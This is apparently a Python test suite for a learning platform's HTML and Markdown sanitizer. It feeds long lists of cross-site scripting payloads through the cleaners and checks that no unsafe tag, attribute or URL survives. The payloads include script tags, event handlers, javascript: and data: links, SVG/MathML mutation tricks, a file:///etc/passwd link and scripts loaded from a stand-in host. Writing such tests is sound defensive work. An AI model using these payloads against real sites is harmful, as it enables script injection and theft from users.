import re
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.kit.html import (
    ATTRIBUTES,
    BLOCK_TAGS,
    INLINE_TAGS,
    PROTOCOLS,
    clean_inline,
    clean_rich_text,
    plain_text,
    render_markdown,
)

ATTACKS = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<script",
    "</script><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<style><script>alert(1)</script></style>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror\n=\nalert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover='alert(1)'>x</p>",
    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<p \x00onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    '<p title="x"onclick="alert(1)">x</p>',
    # addresses
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript&NewLine;:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='%6aavascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<base href='javascript:alert(1)//'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src='data:text/html,x'>",
    "<object data='data:text/html,x'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    # svg and mathml, mutation
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='data:text/html,x'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # style and reach into the page
    "<p style='position:fixed;top:0'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p class='usa-button' id='save' name='cookie'>x</p>",
    "<a id=defaultView name=getElementById href='#'>x</a>",
    "<div hidden><input name=csrfmiddlewaretoken></div>",
    "<h1>Not the page's own heading</h1>",
    "<a href='/' target=_blank rel=opener>x</a>",
    # comments, doctypes, broken mark-up, encodings
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<p title='<img src=x onerror=alert(1)>'>x",
    '<p title="\'><img src=x onerror=alert(1)>">x',
    "<a href='x'><a href='javascript:alert(1)'>y",
    "<table><td><a href=javascript:alert(1)>x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "<b><b><b><i><a href=javascript:alert(1)></b></i>" * 20,
]

MARKDOWN_ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,x)",
    "<javascript:alert(1)>",
    "![x](x' onerror='alert(1))",
    '![x](x "onerror=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>`<script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <svg onload=alert(1)> | b |\n|---|---|\n| <script>1</script> | 2 |",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "term\n: <iframe src=javascript:alert(1)>",
    '[x](https://a.example/"onclick="alert(1))',
]


class Inspector(HTMLParser):
    """Fail on any tag, attribute or address that should not have survived."""

    def __init__(self, tags):
        super().__init__()
        self.tags = tags

    def handle_starttag(self, tag, attrs):
        assert tag in self.tags
        for name, value in attrs:
            assert name in ATTRIBUTES["*"] + ATTRIBUTES.get(tag, [])
            if name == "href":
                scheme = re.match(
                    r"\s*([a-z0-9+.\-]+)\s*:", re.sub(r"[\x00-\x20]", "", value), re.I
                )
                assert scheme is None or scheme[1].lower() in PROTOCOLS

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(html, tags):
    inspector = Inspector(tags)
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_do_not_survive(attack):
    inspect(clean_rich_text(attack), INLINE_TAGS | BLOCK_TAGS)
    inspect(clean_inline(attack), INLINE_TAGS)
    inspect(clean_rich_text(f"<p>before</p>{attack}<p>after"), INLINE_TAGS | BLOCK_TAGS)


@pytest.mark.parametrize("attack", [*ATTACKS, *MARKDOWN_ATTACKS])
def test_attacks_do_not_survive_in_markdown(attack):
    inspect(render_markdown(attack), INLINE_TAGS | BLOCK_TAGS)
    inspect(render_markdown(f"before\n\n{attack}\n\nafter"), INLINE_TAGS | BLOCK_TAGS)


markup = st.text(alphabet="<>/=\"'&;:#ab jscript\n\x00-!") | st.lists(
    st.sampled_from([*ATTACKS, "<p>", "</p>", "<b>", "<table>", "text", "</", ">"]), max_size=5
).map("".join)


@settings(deadline=None)
@given(markup)
def test_nothing_unsafe_survives_whatever_is_put_together(text):
    once = clean_rich_text(text)
    inspect(once, INLINE_TAGS | BLOCK_TAGS)
    inspect(render_markdown(text), INLINE_TAGS | BLOCK_TAGS)
    inspect(clean_rich_text(once), INLINE_TAGS | BLOCK_TAGS)


@pytest.mark.parametrize(
    "text",
    [
        "<p>A <strong>calm</strong> voice<br>helps.</p>",
        '<p lang="es">Llame al <a href="tel:988">988</a></p>',
        '<a href="https://example.org/a?b=1&amp;c=2" title="A source">source</a>',
        '<a href="/courses/">courses</a> <a href="#steps">steps</a>',
        '<a href="sms:988">text</a> <a href="mailto:help@example.org">mail</a>',
        "<h2>One</h2><h3>Two</h3><ul><li>a</li></ul>",
        '<ol start="3"><li>c</li></ol>',
        '<table><caption>C</caption><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr>'
        "</tbody></table>",
        "<blockquote><p>Said.</p></blockquote>",
        "<dl><dt>MRSS</dt><dd>Mobile response</dd></dl>",
    ],
)
def test_honest_writing_is_kept_as_it_is(text):
    assert clean_rich_text(text) == text
    assert isinstance(clean_rich_text(text), SafeString)


def test_the_inside_of_scripts_and_styles_is_not_shown_as_words():
    assert clean_rich_text("a<script>b</script>c<style>d</style>e") == "ace"
    assert clean_rich_text("a<script>b<style>c</script>d</style>e") == "ade"
    assert clean_rich_text("<scripture>kept</scripture>") == "kept"


def test_inline_html_has_no_blocks():
    cleaned = clean_inline("<p>One <em>two</em></p><ul><li>three</li></ul>")
    assert cleaned.split() == ["One", "<em>two</em>", "three"]


def test_markdown_becomes_html_with_headings_from_the_second_level():
    assert render_markdown("# One\n\n## Two\n\n*three* [four](/five)") == (
        '<h2>One</h2>\n<h2>Two</h2>\n<p><em>three</em> <a href="/five">four</a></p>'
    )
    assert "<table>" in render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")
    assert render_markdown("") == ""


def test_plain_text_is_one_line_of_words():
    assert (
        plain_text("<h2>Tea &amp; talk</h2><p>One<br>two</p>\n<ul><li>a</li><li>b</li></ul>")
        == "Tea & talk One two a b"
    )
    assert plain_text("<p>5 &lt; 6</p><script>x</script>") == "5 < 6"
    assert plain_text("f<b>oo</b>") == "foo"


def test_many_open_tags_take_no_long_time():
    assert clean_rich_text("<script " * 5_000) is not None
